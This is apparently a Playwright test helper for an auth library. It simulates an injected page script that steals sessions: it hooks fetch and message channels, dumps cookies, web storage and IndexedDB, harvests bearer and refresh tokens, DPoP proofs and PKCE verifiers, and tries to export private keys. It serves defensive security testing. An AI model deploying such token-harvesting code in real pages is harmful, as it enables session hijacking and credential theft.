import type { Page } from 'playwright/test'

/** What a script of the page can take of a session, as texts. */
export type Loot = {
  /** All that it overheard, found or was told, cut into the strings in it. */
  texts: string[]
  /** Calls that carried a token: a token and its proof. */
  calls: { path: string; token: string; proof: string }[]
  /** What the page sent for its code. */
  exchanges: Record<string, string>[]
  /** The refresh token that lies beside a key. */
  refresh: string
  /** How exporting each key ended. */
  exports: string[]
}

/** A session that a page has tokens for, with the key that no script can export. */
export type Taken = { refresh: string; access: string; key: CryptoKeyPart }
type CryptoKeyPart = { privateKey: CryptoKey; jwk: JsonWebKey }

declare global {
  // What the script on the page of the victim keeps.
  var overheard: unknown[]
  var keys: CryptoKeyPart[]
}

/** Puts the script on a page: from now on it sees each request, answer, message and address. */
export function listenIn(page: Page, server: string): Promise<void> {
  return page.evaluate(server => {
    globalThis.overheard = []
    const { fetch } = globalThis
    globalThis.fetch = async (url, init = {}) => {
      const headers = Object.fromEntries(new Headers(init.headers))
      overheard.push({ url: String(url), headers, body: init.body })
      const answer = await fetch(url, init)
      const text = await answer.clone().text()
      overheard.push({ answer: text, headers: Object.fromEntries(answer.headers) })
      return answer
    }
    addEventListener('message', ({ data }) => overheard.push(data))
    for (const name of [`latchkey ${server}`, `latchkey ${server} answer`]) {
      const channel = new BroadcastChannel(name)
      channel.onmessage = ({ data }) => overheard.push(data)
      // What a new tab asks the others.
      setInterval(() => channel.postMessage('who?'), 200)
    }
    setInterval(() => {
      overheard.push(location.href, { ...localStorage }, { ...sessionStorage }, document.cookie)
    }, 50)
  }, server)
}

/** Takes all that it has seen, and all that lies about. */
export function takeLoot(page: Page): Promise<Loot> {
  return page.evaluate(async () => {
    const wait = <T>(request: IDBRequest<T>) =>
      new Promise<T>((resolve, reject) => {
        request.onsuccess = () => resolve(request.result)
        request.onerror = () => reject(request.error)
      })
    const found: unknown[] = [...overheard]
    globalThis.keys = []
    for (const { name } of await indexedDB.databases()) {
      const database = await wait(indexedDB.open(name ?? ''))
      for (const store of database.objectStoreNames) {
        found.push(...(await wait(database.transaction(store).objectStore(store).getAll())))
      }
    }
    found.push(...Reflect.ownKeys(auth).map(name => Reflect.get(auth, name)), opener, history.state)
    const texts = new Set<string>()
    const seen = new Set<unknown>()
    let refresh = ''
    const look = (value: unknown) => {
      if (typeof value === 'string') {
        texts.add(value)
        try {
          look(JSON.parse(value))
        } catch {
          const query = URL.parse(value)?.searchParams ?? []
          for (const [, part] of query) texts.add(part)
        }
      } else if (typeof value === 'object' && value !== null && !seen.has(value)) {
        seen.add(value)
        if ('privateKey' in value) keys.push(value as CryptoKeyPart)
        if ('key' in value && 'refresh' in value) refresh = String(value.refresh)
        for (const part of Object.values(value)) look(part)
      }
    }
    for (const value of found) look(value)
    const exports = await Promise.all(
      keys.flatMap(({ privateKey }) =>
        (['jwk', 'pkcs8', 'raw'] as const).map(format =>
          crypto.subtle.exportKey(format, privateKey).then(
            () => 'exported',
            (error: Error) => error.name,
          ),
        ),
      ),
    )
    type Request = { url?: string; headers?: Record<string, string>; body?: string }
    const requests = overheard.filter(one => (one as Request | null)?.url) as Request[]
    const calls = requests.flatMap(({ url = '', headers = {} }) => {
      const token = headers.authorization?.split(' ')[1] ?? ''
      return token ? [{ path: new URL(url).pathname, token, proof: headers.dpop ?? '' }] : []
    })
    const exchanges = requests.flatMap(({ body }) =>
      body?.includes('code_verifier') ? [JSON.parse(body)] : [],
    )
    return { texts: [...texts], calls, exchanges, refresh, exports }
  })
}

/**
 * Hands what was taken, the key with it, to a window of `url`.
 * @returns that window, with the session in `taken`.
 */
export async function handToWindow(
  page: Page,
  url: string,
  { refresh, access }: Omit<Taken, 'key'>,
) {
  const opening = page.waitForEvent('popup')
  await page.evaluate(url => {
    Object.assign(globalThis, { other: open(url) })
  }, url)
  const other = await opening
  await other.waitForLoadState()
  await other.evaluate(() => {
    addEventListener('message', ({ data }) => Object.assign(globalThis, { taken: data }))
  })
  await page.evaluate(
    taken => {
      const window = Reflect.get(globalThis, 'other') as Window
      window.postMessage({ ...taken, key: keys[0] }, '*')
    },
    { refresh, access },
  )
  await other.waitForFunction(() => 'taken' in globalThis)
  return other
}
